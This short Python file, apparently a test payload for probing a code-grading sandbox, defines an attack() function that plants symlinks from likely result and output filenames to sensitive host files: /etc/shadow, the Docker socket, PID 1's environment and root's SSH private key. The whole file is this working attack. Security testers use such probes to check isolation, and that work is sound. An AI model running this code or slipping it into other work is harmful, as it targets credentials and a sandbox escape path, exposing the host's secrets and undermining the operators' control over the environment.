import os


def attack():
    # Plant links to host paths wherever a careless host might read results or outputs.
    for link in ("result.json", "output.txt", "report.json", "/tmp/result.json", "/tmp/pygrade", "stdout",
                 "/learner/../learner/out"):
        for target in ("/etc/shadow", "/var/run/docker.sock", "/proc/1/environ", "/root/.ssh/id_rsa"):
            try:
                os.symlink(target, link + "." + os.path.basename(target))
            except OSError:
                pass
    print(sorted(os.listdir(".")))
    return "nothing"
